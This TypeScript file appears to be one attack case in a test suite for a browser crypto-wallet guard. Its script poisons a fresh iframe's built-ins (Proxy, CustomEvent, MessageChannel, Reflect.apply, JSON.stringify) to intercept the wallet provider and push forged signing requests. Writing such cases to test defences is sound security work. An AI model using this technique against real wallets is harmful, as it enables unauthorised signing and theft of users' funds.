import type { Attack } from './kit/attack.ts'

export default {
  family: 'frames',
  how: "Poisons a fresh frame's language in the same tick, before guard and wallet may have run there, then uses its wallet.",
  script: `
    const frame = attack.frame()
    const view = frame.contentWindow
    const taken = new Set()
    const use = (value) => {
      if ((typeof value !== 'object' && typeof value !== 'function') || value === null || taken.has(value)) return
      taken.add(value)
      try { if (typeof value.request === 'function') value.request(attack.sign).catch(() => {}) } catch {}
    }
    const { Proxy: RealProxy, MessageChannel: RealChannel, CustomEvent: RealEvent } = view
    view.Proxy = new RealProxy(RealProxy, { construct(target, args) { use(args[0]); return Reflect.construct(target, args) } })
    view.CustomEvent = new RealProxy(RealEvent, { construct(target, args) { use(args[1]?.detail?.provider); return Reflect.construct(target, args) } })
    view.MessageChannel = new RealProxy(RealChannel, { construct(target, args) {
      const channel = Reflect.construct(target, args)
      channel.port2.onmessage = ({ data }) => channel.port2.postMessage({ type: 'request.forward', id: data.id, digest: '' })
      return channel
    } })
    view.Reflect.apply = (f, self, args) => { use(self); return Reflect.apply(f, self, args) }
    view.JSON.stringify = () => JSON.stringify(attack.honest.params)
    for (let i = 0; i < 15; i++) {
      try { view.ethereum.request(attack.sign).catch(() => {}) } catch {}
      await attack.sleep(30)
    }
  `,
} satisfies Attack
